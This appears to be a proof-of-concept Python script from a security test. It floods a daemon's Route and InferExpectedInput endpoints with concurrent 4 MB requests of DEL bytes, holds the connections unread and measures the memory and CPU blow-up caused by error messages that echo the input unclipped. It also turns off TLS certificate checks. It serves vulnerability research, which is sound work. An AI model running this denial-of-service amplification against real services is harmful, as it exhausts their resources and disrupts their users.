#!/usr/bin/env python3
"""echo13a.py: error answers that quote a client's string unclipped. A Route whose messages[0].role
(or a terminal call's prompt_type) is a 4 MB run of DEL bytes (0x7f) gets a 400 quoting it with %q
and then JSON-escaped: about 5 bytes back per byte sent. Sends CONC such requests at once on raw
sockets from the identities IDS (round robin) over --http-listen (DIR/env), reads nothing for HOLD s
(a small receive buffer), and prints the daemon's RSS and CPU every 2 s, then reads one answer to
its end and prints its size. TLS=1 for a TLS daemon (certificate not verified).
usage: echo13a.py DIR CONC HOLD [route|prompt_type] IDS..."""
import os, sys, time, socket, ssl
d, conc, hold, kind, ids = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4], sys.argv[5:]
env = dict(l.strip().split('=', 1) for l in open(os.path.join(d, 'env')) if '=' in l)
tok = {l.split()[0]: l.split()[2] for l in open(os.path.join(d, 'tokens'))}
pid = env['PID']; host, port = env['HTTP'].split(':')
N = int(os.environ.get('N', str(4 * 1024 * 1024 - 200)))
def st():
    s = {l.split(':')[0]: int(l.split()[1]) // 1024 for l in open(f'/proc/{pid}/status') if l.startswith(('VmRSS', 'VmHWM'))}
    f = open(f'/proc/{pid}/stat').read().split()
    return 'RSS %d MB (peak %d) cpu %.1fs load %s' % (s['VmRSS'], s['VmHWM'], (int(f[13]) + int(f[14])) / os.sysconf('SC_CLK_TCK'), open('/proc/loadavg').read().split()[0])
if kind == 'route':
    path, body = '/classifier.v1.ClassifierService/Route', b'{"query":"x","messages":[{"role":"' + b'\x7f' * N + b'","content":"hi"}]}'
else:
    path, body = '/terminal.v1.TerminalService/InferExpectedInput', b'{"sessionId":"s1","promptText":"Password:","promptType":"' + b'\x7f' * N + b'"}'
def conn():
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096); s.connect((host, int(port)))
    if os.environ.get('TLS') == '1':
        c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE; c.set_alpn_protocols(['http/1.1'])
        s = c.wrap_socket(s)
    return s
print('before', st(), 'body', len(body), flush=True)
socks = []
for i in range(conc):
    s = conn()
    s.sendall(b'POST %s HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nConnect-Protocol-Version: 1\r\nContent-Length: %d\r\n\r\n' % (path.encode(), tok[ids[i % len(ids)]].encode(), len(body)) + body)
    socks.append(s)
print('sent', conc, st(), flush=True)
for k in range(hold // 2):
    time.sleep(2); print('%3ds' % (2 * k + 2), st(), flush=True)
seen = {}
for x in socks[1:]:
    x.settimeout(2)
    try: l = x.recv(64).split(b'\r\n')[0]
    except Exception as e: l = repr(e).encode()
    seen[l] = seen.get(l, 0) + 1
print('status lines', seen, flush=True)
s = socks[0]; s.settimeout(30); n = 0; head = b''
try:
    while True:
        b = s.recv(1 << 20)
        if not b: break
        if not head: head = b[:40]
        n += len(b)
except Exception as e:
    print('read ended', e)
print('first answer', head, n, 'bytes')
for s in socks: s.close()
time.sleep(3); print('after', st())
